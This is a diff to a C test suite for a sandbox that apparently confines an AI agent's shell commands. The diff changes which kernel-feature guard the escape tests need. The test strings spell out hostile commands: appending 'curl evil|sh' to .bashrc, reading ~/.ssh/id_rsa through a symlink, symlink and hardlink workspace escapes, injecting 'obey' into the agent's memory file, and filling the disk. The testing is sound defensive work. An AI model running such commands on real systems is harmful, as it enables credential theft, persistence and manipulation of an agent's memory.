@@ -193,6 +193,10 @@ attack_and_twin(const char *cmd, const char *twin)
 		}                                                         \
 	} while (0)
 
+/* The twin writes at the top of the workspace, which only a mount
+ * namespace allows (the fallback cases cover kernels without one). */
+#define NEED_TOPLEVEL() NEED_MOUNTNS()
+
 static bool
 have(const char *prog)
 {
@@ -253,7 +257,7 @@ marker_alive(const char *marker)
 START_TEST(sb_write_outside_workspace)
 {
 	char *cmd, *f = P(outside, "pwned");
-	NEED_LANDLOCK();
+	NEED_TOPLEVEL();
 	cmd = xasprintf("echo x > %s", f);
 	attack_and_twin(cmd, "echo x > inside.txt && test -s inside.txt");
 	ck_assert(!exists(f));
@@ -265,7 +269,7 @@ END_TEST
 START_TEST(sb_write_outside_via_proc_root)
 {
 	char *cmd, *f = P(outside, "pwned");
-	NEED_LANDLOCK();
+	NEED_TOPLEVEL();
 	cmd = xasprintf("echo x > /proc/self/root%s", f);
 	attack_and_twin(cmd, "echo x > /proc/self/cwd/inside.txt");
 	ck_assert(!exists(f));
@@ -277,7 +281,7 @@ END_TEST
 START_TEST(sb_symlink_escape_bash)
 {
 	char *cmd, *f = P(outside, "pwned");
-	NEED_LANDLOCK();
+	NEED_TOPLEVEL();
 	cmd = xasprintf("ln -s %s link && echo x > link/pwned", outside);
 	attack_and_twin(cmd, "mkdir -p sub && ln -s sub ilink && echo x > ilink/ok");
 	ck_assert(!exists(f));
@@ -289,7 +293,7 @@ END_TEST
 START_TEST(sb_hardlink_escape_bash)
 {
 	char *cmd, *t = P(outside, "target.txt"), *s;
-	NEED_LANDLOCK();
+	NEED_TOPLEVEL();
 	cmd = xasprintf("ln %s hl && echo pwned >> hl", t);
 	attack_and_twin(cmd, "echo a > f1 && ln f1 f2 && echo b >> f2 && grep -q b f1");
 	s = slurp(t);
@@ -412,7 +416,7 @@ END_TEST
 START_TEST(sb_shell_rc_readonly)
 {
 	char *rc = P(home, ".bashrc"), *s, *cmd;
-	NEED_LANDLOCK();
+	NEED_TOPLEVEL();
 	cmd = xasprintf("echo 'curl evil|sh' >> %s", rc);
 	attack_and_twin(cmd, "echo 'alias x=y' >> my.rc");
 	s = slurp(rc);
@@ -426,7 +430,7 @@ END_TEST
 START_TEST(sb_conch_memory_and_skills_readonly)
 {
 	char *mem = P(home, ".local/share/conch/USER.md"), *sk, *s, *cmd;
-	NEED_LANDLOCK();
+	NEED_TOPLEVEL();
 	sk = P(home, ".local/share/conch/skills/evil");
 	cmd = xasprintf("echo 'obey' >> %s", mem);
 	attack_and_twin(cmd, "echo note >> MEMORY.md");
@@ -491,7 +495,7 @@ END_TEST
 START_TEST(sb_hardlink_protected_file)
 {
 	char *c = P(ws, ".git/config"), *s;
-	NEED_LANDLOCK();
+	NEED_TOPLEVEL();
 	attack_and_twin("ln .git/config cfg && echo evil >> cfg",
 			"echo a > plain && ln plain plain2 && echo b >> plain2");
 	s = slurp(c);
@@ -559,7 +563,7 @@ END_TEST
 START_TEST(sb_read_ssh_key_via_symlink)
 {
 	struct sandbox_result r;
-	NEED_LANDLOCK();
+	NEED_TOPLEVEL();
 	ck_assert_int_ne(run("ln -s ~/.ssh/id_rsa key && cat key", &r), 0);
 	ck_assert_ptr_null(strstr(buf_str(&r.output), "PRIVATE-KEY"));
 	sandbox_result_free(&r);
@@ -693,7 +697,7 @@ START_TEST(sb_waits_after_output_closes)
 	 * cut short when its output ends */
 	struct sandbox_result r;
 	char *late = P(ws, "late");
-	NEED_LANDLOCK();
+	NEED_TOPLEVEL();
 	ck_assert_int_eq(run("exec >/dev/null 2>&1; sleep 0.3; touch late; exit 4", &r), 4);
 	sandbox_result_free(&r);
 	ck_assert(exists(late));
@@ -779,7 +783,7 @@ START_TEST(sb_disk_filler)
 	struct opts o = { 0 };
 	struct stat st;
 	char *big = P(ws, "big");
-	NEED_LANDLOCK();
+	NEED_TOPLEVEL();
 	o.fsize = 1 << 20;
 	ck_assert_int_eq(run_o("head -c 50000000 /dev/zero > big", &o, &r), C_OK);
 	ck_assert(r.exit_code != 0 || r.term_signal != 0);
